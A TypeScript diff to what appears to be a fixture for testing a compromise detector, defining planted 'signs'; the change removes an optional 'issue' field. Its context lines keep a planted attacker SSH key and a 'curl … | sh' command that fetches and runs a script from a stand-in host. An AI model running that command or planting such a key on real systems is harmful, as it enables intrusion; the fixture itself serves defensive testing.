@@ -14,8 +14,6 @@ export interface Sign {
 	readonly names: readonly TreePath[];
 	/** What else of the sign may be named without being a false alarm. Everything below a path is meant too. */
 	readonly also?: readonly TreePath[];
-	/** Served by a later issue: told, and not counted. */
-	readonly issue?: 4 | 5;
 }
 
 export const attackerKey = 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDk0wnedByMallory2025aXk7Qm9vdGxlZ0tleU5vdFJlYWw0Tm9ib2R5c0tleQ== root@kali';
@@ -36,9 +34,9 @@ export const fetched = 'curl -fsSL http://203.0.113.9/k | sh';
 export const run = { mode: 0o755 } as const;
 
 /** A sign that is one file. */
-export function file(id: string, family: Family, what: string, path: string, content: string | Buffer, put: Put & { readonly issue?: 4 | 5; readonly also?: readonly string[] } = {}): Sign {
-	const { issue, also, ...how } = put;
-	return { id, family, what, names: [path], plant: tree => tree.write(path, content, how), ...(issue === undefined ? {} : { issue }), ...(also === undefined ? {} : { also }) };
+export function file(id: string, family: Family, what: string, path: string, content: string | Buffer, put: Put & { readonly also?: readonly string[] } = {}): Sign {
+	const { also, ...how } = put;
+	return { id, family, what, names: [path], plant: tree => tree.write(path, content, how), ...(also === undefined ? {} : { also }) };
 }
 
 /** A sign that is a line more in a file. */
